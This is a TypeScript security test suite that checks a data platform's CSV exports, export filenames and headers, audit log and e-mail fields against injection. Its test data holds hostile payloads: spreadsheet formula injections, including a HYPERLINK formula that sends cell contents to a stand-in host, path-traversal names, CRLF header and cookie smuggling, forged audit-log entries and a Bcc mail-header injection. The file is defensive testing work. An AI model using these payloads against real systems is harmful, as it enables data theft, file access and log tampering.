import { parse } from 'csv-parse/sync';
import { z } from 'zod';
import { covers, dataOf, expect, test } from '../../../fixtures/index.ts';
import { waitForJob } from '../../../flows/wait-for-job.ts';

/** Texts that a spreadsheet runs, or takes for the end of a cell or a row. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '";=1+1',
  '",=1+1',
  'a\n=1+1',
  '=HYPERLINK("http://elsewhere.test/?"&A1)',
];

/** What no cell of an export may begin with. */
const TRIGGER = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/;

const cellsOf = (text: string) => z.array(z.array(z.string())).parse(parse(text));
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

test.use({ transport: 'undici' });

test.describe('What leaves the platform as a file', { tag: '@security' }, () => {
  test(
    'no cell or column name of an exported dataset is a formula, and none breaks out of its cell',
    { annotation: covers('INJ-07') },
    async ({ tenant }) => {
      const { api } = await tenant.actor('analyst');
      const header = ['plain', ...FORMULAS];
      const lines = FORMULAS.map((text, row) => [
        'plain',
        ...FORMULAS.map((_, at) => (at === row ? text : 'x')),
      ]);
      const content = [header, ...lines].map((line) => line.map(quoted).join(',')).join('\n');
      const file = { name: 't.csv', contentType: 'text/csv', content };
      const { id } = dataOf(await api.datasets.create({ name: '=1+1', file }), 201);

      const exported = cellsOf(dataOf(await api.datasets.export(id), 200));

      expect(exported.flat().filter((cell) => TRIGGER.test(cell))).toEqual([]);
      expect(exported.map((line) => line.length)).toEqual(exported.map(() => header.length));
      expect(exported.flat().filter((cell) => cell === 'plain')).toHaveLength(exported.length);
      const { items } = dataOf(await api.datasets.rows(id), 200);
      expect(items.map(({ values }, row) => values[FORMULAS[row] ?? ''])).toEqual(FORMULAS);
    },
  );

  test(
    'no name in the exported results of an experiment is a formula',
    { annotation: covers('INJ-07') },
    async ({ tenant, world }) => {
      const analyst = await tenant.actor('analyst');
      const { api } = analyst;
      const file = {
        name: 't.csv',
        contentType: 'text/csv',
        content: dataOf(
          await (await world.alpha.actor('analyst')).api.datasets.export(world.alpha.dataset.id),
          200,
        ),
      };
      const dataset = dataOf(await api.datasets.create({ name: 'd', labelColumn: 'label', file }), 201);
      const candidates = ['=1+1', '＝1+1', '",=1'].map((name) => ({
        name,
        algorithm: 'robust_zscore' as const,
      }));
      const experiment = dataOf(
        await api.experiments.create({ name: '=1+1', datasetId: dataset.id, candidates }),
        201,
      );
      await waitForJob(analyst, dataOf(await api.experiments.run(experiment.id), 202).id);

      const result = await api.call({
        operationId: 'experiments.export',
        method: 'GET',
        path: '/experiments/{id}/export',
        pathParams: { id: experiment.id },
        query: { format: 'csv' },
      });

      const exported = cellsOf(result.exchange.bodyText);
      expect(exported.flat().filter((cell) => TRIGGER.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
      expect(exported).toHaveLength(4);
      expect(result.headers['content-disposition']).toBe('attachment; filename="1_1.csv"');
    },
  );

  test(
    'a name decides neither where an export is stored nor what its headers are',
    { annotation: covers('INJ-09', 'UPL-05') },
    async ({ tenant }) => {
      const { api } = await tenant.actor('analyst');
      const names = [
        '../../etc/passwd',
        '..\\..\\boot.ini',
        'a\r\nSet-Cookie: a=b\r\n\r\n<script>',
        'a"; filename="b.html',
        "x.csv; filename*=UTF-8''b.html",
        '\u202egpj.exe',
        '.htaccess',
        'con',
        'n'.repeat(120),
      ];
      for (const name of names) {
        const file = { name, contentType: 'text/csv', content: `a\n${name.length}\n` };
        const { id } = dataOf(await api.datasets.create({ name, file }), 201);

        const { headers } = await api.datasets.export(id);

        expect(headers['content-disposition'], name).toMatch(
          /^attachment; filename="[A-Za-z0-9_-][A-Za-z0-9._-]*\.csv"$/,
        );
        expect(headers).toMatchObject({
          'content-type': 'text/csv; charset=utf-8',
          'x-content-type-options': 'nosniff',
          'content-security-policy': expect.stringContaining("default-src 'none'"),
        });
        expect(headers['set-cookie'], name).toBeUndefined();
      }
    },
  );

  test(
    'line breaks and control characters in what people write split no entry of the audit log',
    { annotation: covers('INJ-08') },
    async ({ tenant, anonymous }) => {
      const { email, password } = tenant.owner;
      const { api } = await tenant.actor('analyst');
      const forged = '{"sequence":1,"actor":{"kind":"operator","label":"root"}}';
      const file = { name: `t\r\n${forged}.csv`, contentType: 'text/csv', content: 'a\n1\n' };
      const named = [
        `a\r\n${forged}`,
        `a\u2028${forged}`,
        '\u001b[2J\u001b[31m',
        '","actor":"root',
        '\u202eroot',
      ];
      for (const name of named) dataOf(await api.datasets.create({ name, file }), 201);
      const agent = { 'user-agent': `\u00e9","actor":"root",${forged}` };
      dataOf(await anonymous.api.withHeaders(agent).auth.login({ email, password }), 200);
      await api.datasets.get(`\r\n${forged}`);

      const text = dataOf(await tenant.owner.api.audit.export(), 200);

      const { total } = dataOf(await tenant.owner.api.audit.list(), 200);
      const actors = text
        .trimEnd()
        .split('\n')
        .map(
          (line) =>
            z.looseObject({ actor: z.looseObject({ kind: z.string() }) }).parse(JSON.parse(line)).actor.kind,
        );
      expect(actors).toHaveLength(total);
      // The operator has set the tenant's plan, and done nothing since.
      expect(actors.slice(2)).toEqual(actors.slice(2).map(() => 'user'));
      expect(['\u001b', '\u2028', '\u202e', '\r'].filter((character) => text.includes(character))).toEqual(
        [],
      );
      expect(dataOf(await tenant.owner.api.audit.verify(), 200).valid).toBe(true);
    },
  );

  test(
    'an e-mail address with a line break in it is refused, and no mail goes out',
    { annotation: covers({ check: 'INJ-09', asvs: ['V1.3.11'] }) },
    async ({ tenant, anonymous }) => {
      const addresses = [
        'a@example.test\r\nBcc: b@example.test',
        'a@example.test\nb@example.test',
        'a@example.test, b@example.test',
        'a@example.test\0',
      ];
      const owner = tenant.owner.api;
      for (const email of addresses) {
        const member = { email, name: 'A', role: 'viewer', password: 'a long pass phrase' } as const;

        expect(await owner.members.create(member), email).toBeRefused(422, { pointer: '/email' });
        expect(await anonymous.api.auth.requestPasswordReset(email), email).toBeRefused(422, {
          pointer: '/email',
        });
      }

      expect(await anonymous.api.auth.requestPasswordReset('nobody@example.test')).toSucceed(204);
    },
  );
});
